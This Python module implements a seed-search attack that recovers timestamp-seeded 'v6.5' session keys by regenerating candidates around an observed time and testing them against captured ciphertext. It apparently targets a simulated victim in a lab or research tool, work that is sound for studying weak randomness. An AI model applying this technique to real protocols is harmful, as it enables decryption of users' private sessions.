"""Seed search against v6.5 session keys.

The key is a pure function of the millisecond timestamp that seeded the
generator. Starting at the time the request was observed, walk outward
(t, t+1, t-1, t+2, t-2, ...), regenerate each candidate key, and test it
against the captured payload.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Iterator

import numpy as np

from ..victim_prng import Origin, SessionKey, keygen_v65_batch
from ..wup_protocol import DecryptionError, EncryptedSession, WupFormatError, decrypt_message, looks_like_message

KeyCheck = Callable[[bytes], bool]


class SeedNotInWindow(LookupError):
    def __init__(self, guesses: int, radius: int):
        super().__init__(f"no seed within +/-{radius} ms ({guesses} guesses)")
        self.guesses = guesses
        self.radius = radius


@dataclass(frozen=True)
class PrngAttackResult:
    key: SessionKey
    guesses: int
    seed_millis: int
    offset_ms: int

    def to_json(self) -> dict:
        return {
            "attack": "prng",
            "recovered": True,
            "key": self.key.hex(),
            "guesses": self.guesses,
            "seed_millis": self.seed_millis,
            "offset_ms": self.offset_ms,
        }


def offset_at(index: int) -> int:
    """Offset visited at 0-based position ``index`` of the search: 0, +1, -1, +2, -2, ..."""
    return (index + 1) // 2 if index % 2 else -(index // 2)


def guesses_for_offset(offset: int) -> int:
    """Guesses spent by the time ``offset`` is tried (inverse of :func:`offset_at`)."""
    if offset > 0:
        return 2 * offset
    return 2 * -offset + 1


def search_order(observed_at: int, radius: int) -> Iterator[int]:
    yield observed_at
    for d in range(1, radius + 1):
        yield observed_at + d
        yield observed_at - d


def payload_check(observed: EncryptedSession) -> KeyCheck:
    """Key test using only the captured ciphertext: decrypt and parse the request."""
    first = observed.payload[:16]

    def check(key: bytes) -> bool:
        if not looks_like_message(key, first):
            return False
        try:
            decrypt_message(key, observed.payload)
        except (DecryptionError, WupFormatError):
            return False
        return True

    return check


def prng_attack(observed: EncryptedSession, observed_at: int, radius: int,
                check: KeyCheck | None = None, chunk: int = 8192) -> PrngAttackResult:
    """Recover a v6.5 session key generated within ``radius`` ms of ``observed_at``.

    Candidate keys are regenerated in vectorised chunks; ``check`` defaults
    to :func:`payload_check`.
    """
    if radius < 0:
        raise ValueError("radius must be non-negative")
    check = check or payload_check(observed)
    total = 2 * radius + 1
    for start in range(0, total, chunk):
        idx = np.arange(start, min(start + chunk, total), dtype=np.int64)
        offsets = np.where(idx % 2 == 1, (idx + 1) // 2, -(idx // 2))
        keys = keygen_v65_batch(observed_at + offsets)
        for row, index, offset in zip(keys, idx.tolist(), offsets.tolist()):
            raw = row.tobytes()
            if check(raw):
                seed = observed_at + offset
                return PrngAttackResult(SessionKey(raw, Origin.V65, seed), index + 1, seed, offset)
    raise SeedNotInWindow(total, radius)
